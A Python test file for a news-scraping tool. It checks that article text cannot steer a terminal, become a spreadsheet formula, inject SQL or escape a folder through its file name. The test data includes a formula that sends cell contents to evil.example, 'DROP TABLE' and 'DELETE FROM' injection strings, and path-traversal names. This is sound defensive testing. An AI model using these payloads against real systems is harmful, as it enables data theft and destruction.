"""Other people's texts, where they are printed, kept, exported or become a name."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from scrapy.utils.project import get_project_settings

from extractors import Article, extract
from extractors.article import Block, Image
from newsspider.archive.warc import Location
from newsspider.corpora.output import Articles
from newsspider.crawl.report import print_tally
from newsspider.recording.fixtures import RecordedPage, write_case
from newsspider.runtime.console import visible, visible_json
from newsspider.safety.cells import restored
from newsspider.store import ArticleStore, StoreEntry
from tests.newsspider.conftest import Run

Command = Callable[..., Run]
URL = "https://www.jpnn.com/news/judul-berita"
NOW = datetime(2024, 8, 5, 10, tzinfo=UTC)
RED = "\x1b[31m\x1b]0;judul\x07\x9b2J\x7f\u202emerah"
SENTENCE = "Harga bawang putih di pasar induk naik lagi pada Senin pagi, kata seorang pedagang di sana."
HTML = (
    f'<html><head><link rel="canonical" href="{URL}"></head><body><div class="page-content"><h1 class="judul">Judul {RED}</h1>'
    f'<div itemprop="articleBody"><p>{SENTENCE} {RED}</p><p>Baca juga: {RED}</p><p>{SENTENCE}</p></div></div></body></html>'
)


def harmless(run: Run) -> Run:
    """Nothing printed steers a terminal."""
    for text in (run.out, run.err):
        assert not set(text) & set("\x1b\x07\x9b\x7f\u202e"), text
    return run


# -- terminals -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "options",
    [(), ("--explain",), ("--format", "text"), ("--format", "markdown")],
    ids=lambda x: x[-1:] or "json",
)
def test_extract_prints_nothing_that_a_terminal_obeys(
    command: Command, tmp_path: Path, options: tuple[str, ...]
) -> None:
    file = tmp_path / "page.html"
    file.write_text(HTML)
    run = harmless(command("extract", str(file), *options))
    assert "merah" in run.out
    if not options:
        assert json.loads(run.out) == extract(HTML, URL).to_dict()  # the same data nevertheless


def test_a_fault_names_a_file_without_obeying_its_name(command: Command, tmp_path: Path) -> None:
    file = tmp_path / "a\x1b[31m\u202e.html"
    file.write_text("nichts")
    run = harmless(command("extract", str(file)))
    assert run.code == 1
    assert len(run.complaints) == 1


def test_score_prints_a_difference_without_obeying_it(command: Command, tmp_path: Path) -> None:
    golden = {"article": {**extract(HTML, URL).to_dict(), "headline": "Judul lain", "keywords": [RED]}}
    folder = tmp_path / "jpnn" / "2020" / "merah [bold]tebal[/nol]"
    write_case(folder, [RecordedPage(URL, HTML.encode())], golden, {"kind": "synthetic"})
    run = harmless(command("score", str(tmp_path), "--diff"))
    assert "Judul lain" in run.out


@pytest.fixture
def store(tmp_path: Path) -> Path:
    path = tmp_path / "articles.sqlite"
    first = extract(HTML, URL)
    second = extract(HTML.replace("pasar induk", f"pasar {RED}"), URL)
    with ArticleStore(path) as store:
        store.put([StoreEntry(first.to_dict(), NOW, Location("a.warc.gz", 0, 9))])
        store.put([StoreEntry(second.to_dict(), NOW, Location("a.warc.gz", 9, 9))])
    return path


@pytest.mark.parametrize(
    "arguments",
    [
        ("list",), ("list", "--json"), ("show", URL), ("show", URL, "--format", "markdown"), ("show", URL, "--format", "json"),
        ("revisions", URL), ("revisions", URL, "--json"), ("diff", URL), ("show", f"https://x/{RED}"),
    ],
    ids=lambda arguments: " ".join(arguments).encode("ascii", "replace").decode()[:30].replace("\x1b", ""),
)  # fmt: skip
def test_articles_print_nothing_that_a_terminal_obeys(
    command: Command, store: Path, arguments: tuple[str, ...]
) -> None:
    run = harmless(command("articles", *arguments, "--store", str(store)))
    assert run.out or run.err


def test_the_closing_table_of_a_crawl_obeys_no_name(capsys: pytest.CaptureFixture[str]) -> None:
    class Told:
        def rows(self) -> list[tuple[str, str, int]]:
            return [("refused", f"[/bold] {RED}", 1)]

        def verdict(self) -> str:
            return f"[/bold] {RED}"

    print_tally(Told(), "x")  # type: ignore[arg-type]
    captured = capsys.readouterr()
    harmless(Run(0, captured.out, captured.err))
    assert "[/bold]" in captured.err


def test_what_is_printed_stays_readable_and_json_stays_the_same() -> None:
    text = "Satu\tdua\ntiga é 👩\u200d🌾 \u0639"
    assert visible(text) == text
    assert visible("a\x1b[31mb\rc") == "a�[31mb�c"
    assert json.loads(visible_json(json.dumps(RED, ensure_ascii=False))) == RED


# -- spreadsheets --------------------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"klik")', "=1+1", "+62 21 555", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "'=1", "''@x", "'",
)  # fmt: skip


def sly(formula: str) -> Article:
    return Article(
        headline=formula,
        alternativeHeadline=formula,
        authors=(formula, "Budi"),
        keywords=(formula,),
        images=(Image(formula, formula, True),),
        body=(Block("paragraph", formula),),
        readAlso=(formula,),
        url=URL,
        canonicalUrl=URL,
        outlet="jpnn",
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_export_is_a_formula_and_every_cell_comes_back(formula: str, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    record = sly(formula).to_dict()
    with Articles(str(path), get_project_settings()) as out:
        out.write(json.dumps(record).encode(), record)
    with path.open(newline="", encoding="utf-8") as file:
        header, cells = csv.reader(file)
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and cell]
    back = dict(zip(header, map(restored, cells), strict=True))
    assert back["headline"] == back["text"] == formula
    assert json.loads(back["authors"]) == [formula, "Budi"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_json_lines_hold_the_text_as_it_is(formula: str, tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    with Articles(str(path), get_project_settings()) as out:
        out.write(json.dumps(sly(formula).to_dict()).encode())
    assert json.loads(path.read_bytes())["headline"] == formula


def test_plain_csv_is_there_for_the_asking(tmp_path: Path) -> None:
    settings = get_project_settings()
    settings.set("FEED_EXPORTERS", {"csv": "scrapy.exporters.CsvItemExporter"})
    with Articles(str(tmp_path / "a.csv"), settings) as out:
        out.write(json.dumps(sly("=1+1").to_dict()).encode())
    assert ",=1+1," in (tmp_path / "a.csv").read_text()


def test_clean_adds_no_formula_to_a_table_and_leaves_its_own_columns(
    command: Command, tmp_path: Path
) -> None:
    text = f"=Judul Berita Yang Panjang\n\n{SENTENCE}\n\n{SENTENCE}\n\n- {SENTENCE}\n"
    out = io.StringIO(newline="")
    csv.writer(out).writerows([("text", "note"), (text, "=1+1")])
    (tmp_path / "a.csv").write_text(out.getvalue(), newline="")
    command("clean", str(tmp_path / "a.csv"), "--outlet", "jpnn")
    with (tmp_path / "a.clean.csv").open(newline="") as file:
        header, cells = csv.reader(file)
    row = dict(zip(header, cells, strict=True))
    assert (row["text"], row["note"]) == (text, "=1+1")
    assert row["article.headline"] == "'=Judul Berita Yang Panjang"
    added = [cell for name, cell in row.items() if name.startswith("article.")]
    assert not [cell for cell in added if cell[:1] in tuple("=+-@\t\r\n")]


# -- databases -----------------------------------------------------------------------------------------------------

SQL = (
    "'; DROP TABLE articles; --", '" OR ""="', "%_\\%", "NULL", "\\'; --", "Robert'); DELETE FROM revisions WHERE ('1'='1", "{} %s ? :x $1",
    'a" NEAR b*) OR (', "\u2019 \u02bc ＇",
)  # fmt: skip


@pytest.mark.parametrize("text", SQL)
def test_sql_in_every_field_is_text_in_every_field(text: str, tmp_path: Path) -> None:
    article = Article(
        headline=text,
        alternativeHeadline=text,
        authors=(text,),
        editors=(text,),
        sources=(text,),
        dateline=text,
        articleSection=(text,),
        keywords=(text,),
        images=(Image(text, text, False),),
        body=(Block("paragraph", text), Block("paragraph", SENTENCE)),
        readAlso=(text,),
        url=f"https://www.jpnn.com/news/{text}",
        canonicalUrl=f"https://www.jpnn.com/news/{text}",
        outlet=text,
        layout=text,
        extractor=text,
        inLanguage=text,
        datePublishedRaw=text,
    )
    with ArticleStore(tmp_path / "articles.sqlite") as store:
        assert store.put([StoreEntry(article.to_dict(), NOW, Location(text, 0, 1))]) == ["new"]
        assert article.url is not None
        kept = store.get(article.url)
        assert kept is not None
        assert kept.article == article
        assert kept.location == Location(text, 0, 1)
        assert [summary.headline for summary in store.articles(outlet=text)] == [text]
        assert store.get(f"{article.url}x") is None
        assert len(store) == 1


# -- file names ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../x.csv", "a\x1b[31m.csv", "..", "x.csv\u202e", "a\nb.csv"])
def test_a_corpus_is_written_where_it_was_told_whatever_its_name(
    command: Command, tmp_path: Path, name: str
) -> None:
    corpora, outside = tmp_path / "corpora", tmp_path / "outside"
    corpora.mkdir()
    file = corpora / name.replace("/", "_").strip(".")
    if file == corpora:
        file = corpora / "x"
    file = file.with_suffix(".csv")
    file.write_text(f'text\n"{SENTENCE}\n\n{SENTENCE}"\n')
    before = set(tmp_path.rglob("*"))
    harmless(command("clean", str(corpora), "--outlet", "jpnn", "-o", f"{outside}/"))
    new = set(tmp_path.rglob("*")) - before
    assert new == {outside, outside / file.name}
